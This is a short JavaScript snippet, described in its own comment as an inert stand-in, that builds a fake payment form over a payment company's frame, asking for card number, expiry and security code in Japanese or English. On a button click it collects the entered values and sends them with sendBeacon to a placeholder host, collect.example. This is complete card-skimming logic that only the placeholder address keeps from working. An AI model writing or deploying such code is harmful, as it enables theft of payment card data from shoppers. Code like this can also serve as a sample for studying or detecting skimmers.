// A stand-in for a fake form, inert: it lies over the payment company's frame and sends to an address that is nobody's.
const fake = document.createElement('form');
fake.className = 'cover';
const label = (ja, en) => (document.documentElement.lang === 'en' ? en : ja);
const add = (id, kind, text) => {
  const line = document.createElement('p');
  const name = document.createElement('label');
  name.htmlFor = id;
  name.textContent = text;
  const field = document.createElement('input');
  field.id = id;
  field.name = id;
  field.autocomplete = kind;
  line.append(name, field);
  fake.append(line);
};
add('card_number', 'cc-number', label('カード番号', 'Card number'));
add('card_expiry', 'cc-exp', label('有効期限（月/年）', 'Expiry (MM/YY)'));
add('security_code', 'cc-csc', label('セキュリティコード', 'Security code'));
addEventListener('load', () => document.body.append(fake));
document.querySelector('button').addEventListener('click', () => {
  const body = new URLSearchParams(new FormData(fake)).toString();
  navigator.sendBeacon('https://collect.example/c', body);
});
